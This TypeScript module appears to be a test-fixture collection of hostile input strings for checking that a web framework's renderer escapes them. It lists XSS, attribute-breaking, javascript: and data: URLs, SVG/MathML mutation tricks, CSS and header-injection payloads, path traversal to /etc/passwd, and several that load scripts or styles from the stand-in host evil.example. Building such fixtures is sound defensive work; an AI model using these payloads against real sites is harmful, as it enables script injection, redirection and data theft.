/**
 * Texts that would become a script, a style or a request if a page took them
 * for more than text, by kind. Scripts call `alert`, requests go to
 * `evil.example`.
 *
 * @module
 */

const TAGS = [
  "<script>alert(1)</script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script src=https://evil.example/x.js></script>",
  "<script src=//evil.example/x.js async>",
  "<script type=module>alert(1)</script>",
  "<script/x>alert(1)</script/y>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\n>alert(1)</script\n>",
  "<img src=x onerror=alert(1)>",
  "<img/src=x/onerror=alert(1)//",
  "<img src=https://evil.example/p.png>",
  "<image src=x onerror=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)><option>a</select>",
  "<textarea autofocus onfocus=alert(1)>",
  "<button autofocus onfocus=alert(1)>a</button>",
  "<details open ontoggle=alert(1)><summary>a</summary></details>",
  "<video autoplay src=x onerror=alert(1)></video>",
  "<video><source onerror=alert(1) src=x></video>",
  "<audio src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<iframe src=https://evil.example/></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=https://evil.example/x.swf>",
  "<form action=https://evil.example/><input type=submit value=Pull></form>",
  "<base href=https://evil.example/>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<link rel=prefetch href=https://evil.example/x>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<marquee onstart=alert(1)>a</marquee>",
  "<frameset onload=alert(1)>",
  "<xmp><script>alert(1)</script></xmp>",
  "<plaintext><script>alert(1)</script>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<dialog open onclose=alert(1)>a</dialog>",
  "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
] as const;

const ATTRIBUTES = [
  `" onmouseover="alert(1)`,
  `' onmouseover='alert(1)`,
  `" autofocus onfocus="alert(1)" x="`,
  `' autofocus onfocus='alert(1)' x='`,
  `"><img src=x onerror=alert(1)>`,
  `'><img src=x onerror=alert(1)>`,
  "` onmouseover=`alert(1)",
  `"/><svg/onload=alert(1)>`,
  `" style="animation-name:x" onanimationstart="alert(1)`,
  `" formaction="javascript:alert(1)" x="`,
  `x" onpointerenter=alert(1) y="`,
  `--><img src=x onerror=alert(1)><!--`,
  `]]><img src=x onerror=alert(1)>`,
  `?><img src=x onerror=alert(1)>`,
  `</title><script>alert(1)</script>`,
  `</textarea><script>alert(1)</script>`,
  `</style><script>alert(1)</script>`,
  `</option></select><img src=x onerror=alert(1)>`,
  `</f-island><f-island data-name="x" data-props="{}">`,
  `" data-props="{&quot;tag&quot;:1}" data-name="`,
] as const;

const URLS = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  " javascript:alert(1)",
  "\u0001javascript:alert(1)",
  "javascript://evil.example/%0aalert(1)",
  "javascript:alert(1)//https://example.com",
  "javascript&colon;alert(1)",
  "javascript%3Aalert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>",
  "vbscript:msgbox(1)",
  "view-source:https://evil.example/",
  "blob:https://evil.example/0",
  "file:///etc/passwd",
  "//evil.example/x",
  "\\\\evil.example\\x",
  "/\\evil.example/x",
  "https:evil.example/x",
  "https://example.com@evil.example/",
  'https://evil.example/"onmouseover="alert(1)',
  "at://did:plc:x/<script>alert(1)</script>",
] as const;

const ENTITIES = [
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "&#x3c;img src=x onerror=alert(1)&#x3e;",
  "&#0000060script>alert(1)",
  "&quot; onmouseover=&quot;alert(1)",
  "&amp;lt;script&amp;gt;alert(1)",
  "&Tab;javascript&colon;alert&lpar;1&rpar;",
  "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "%253Cscript%253Ealert(1)%253C/script%253E",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
] as const;

const SVG_AND_MATHML = [
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><script href=https://evil.example/x.js /></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><set onbegin=alert(1) attributeName=x to=1>",
  "<svg><a xlink:href=javascript:alert(1)><text y=9>a</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
  "<svg><image href=https://evil.example/p.png /></svg>",
  "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<svg><desc><![CDATA[</desc><img src=x onerror=alert(1)>]]></svg>",
  "<math href=javascript:alert(1)>a</math>",
  "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>a",
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>",
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=alert(1)>">`,
] as const;

const SCRIPTS = [
  "</script><script>alert(1)</script>",
  "</script ><img src=x onerror=alert(1)>",
  "<!--<script>alert(1)</script>-->",
  `"};alert(1);//`,
  `';alert(1);//`,
  "`;alert(1);//",
  '\\";alert(1);//',
  "${alert(1)}",
  "{{constructor.constructor('alert(1)')()}}",
  "{{7*7}}{%raw%}<%= alert(1) %>",
  "#{alert(1)}",
  `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}}`,
  `{"type":"script","props":{"children":"alert(1)"},"constructor":null}`,
  "__proto__",
  "constructor",
  "[object Object]",
  "eval('ale'+'rt(1)')",
  "\u2028alert(1)\u2029",
  "data: <script>alert(1)</script>\n\nevent: push\ndata: {}",
] as const;

const STYLES = [
  "<style>@import 'https://evil.example/x.css';</style>",
  "<style>body{background:url(https://evil.example/p.png)}</style>",
  "<p style=background:url(https://evil.example/p.png)>a</p>",
  "<p style=position:fixed;inset:0;z-index:9999>a</p>",
  "};*{background:url(//evil.example/p.png)}",
  "red;background-image:url('https://evil.example/p.png')",
  "expression(alert(1))",
  "width:calc(1px);behavior:url(https://evil.example/x.htc)",
  "</style><style>*{display:none}",
  "@font-face{font-family:x;src:url(https://evil.example/f.woff)}",
] as const;

const UNICODE = [
  "\u202e<script>alert(1)</script>\u202c",
  "\u2066\u2069\u200f<img src=x onerror=alert(1)>",
  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
  "\u02bascript\u02baonload=alert(1)",
  "<\u0000script>alert(1)</script>",
  "<img\u000csrc=x\u000conerror=alert(1)>",
  "<img\u00a0src=x\u00a0onerror=alert(1)>",
  "\u200b\u200c\u200d\ufeff<svg onload=alert(1)>",
  "Z\u0351\u0363\u034d\u031b\u0308<b>a\u0338\u0321",
  "مرحبا <img src=x onerror=alert(1)> שלום",
  "👩‍👩‍👧‍👦<script>alert(1)</script>🏴‍☠️",
  '\u{1f4a9}" onmouseover="alert(1)',
  "a\u0301".repeat(20) + "<svg/onload=alert(1)>",
  "\u001b[31m\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007",
] as const;

const MARKDOWN = [
  "[a](javascript:alert(1))",
  "[a](<javascript:alert(1)>)",
  "[a](java&#x0A;script:alert(1))",
  `[a](https://example.com "onmouseover=alert(1)")`,
  "![a](https://evil.example/p.png)",
  `![a" onerror="alert(1)](x)`,
  "<javascript:alert(1)>",
  "[a]: javascript:alert(1)\n\n[a]",
  "[![a](x)](javascript:alert(1))",
  "`</code><script>alert(1)</script>`",
  '```"><img src=x onerror=alert(1)>\na\n```',
  "| <script>alert(1)</script> |\n|--|\n| <img src=x onerror=alert(1)> |",
  "> <svg onload=alert(1)>",
  "- [ ] <input onfocus=alert(1) autofocus>",
  '<a href="javascript:alert(1)">a</a>',
  "<div>\n<script>alert(1)</script>\n</div>",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  'www.example.com/"onmouseover="alert(1)',
  "https://example.com/<script>alert(1)</script>",
  "# <img src=x onerror=alert(1)>\n=====",
] as const;

const HEADERS_AND_FILES = [
  "a\r\nset-cookie: a=b",
  "a\r\n\r\n<script>alert(1)</script>",
  "a\nlocation: https://evil.example/",
  "a%0d%0acontent-type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>",
  '"; filename="x.html',
  "x.html;type=text/html",
  "../../../../etc/passwd",
  "..%2f..%2fstatic%2fx.js",
  "..\\..\\x.html",
  "x.svg#<svg onload=alert(1)>",
  "con.html ",
  "a\u0000.html",
] as const;

/** All texts, by kind. */
export const HOSTILE = {
  tags: TAGS,
  attributes: ATTRIBUTES,
  URLs: URLS,
  entities: ENTITIES,
  "SVG and MathML": SVG_AND_MATHML,
  "scripts and templates": SCRIPTS,
  styles: STYLES,
  Unicode: UNICODE,
  Markdown: MARKDOWN,
  "headers and files": HEADERS_AND_FILES,
} as const;

/** All texts in one list. */
export const HOSTILE_TEXTS: readonly string[] = Object.values(HOSTILE).flat();

/** The texts in groups of at most `length` characters, with spaces between them; longer ones are cut. */
export function hostileGroups(
  length: number,
  texts: readonly string[] = HOSTILE_TEXTS,
): string[] {
  const groups: string[] = [];
  for (const text of texts) {
    const last = groups.at(-1);
    const joined = `${last} ${text}`;
    if (last === undefined || joined.length > length) {
      groups.push(text.slice(0, length));
    } else groups[groups.length - 1] = joined;
  }
  return groups;
}

/** The texts that headers and media types can carry: visible ASCII. */
export const HOSTILE_ASCII: readonly string[] = HOSTILE_TEXTS.filter((text) =>
  /^[\x20-\x7e]+$/.test(text)
);
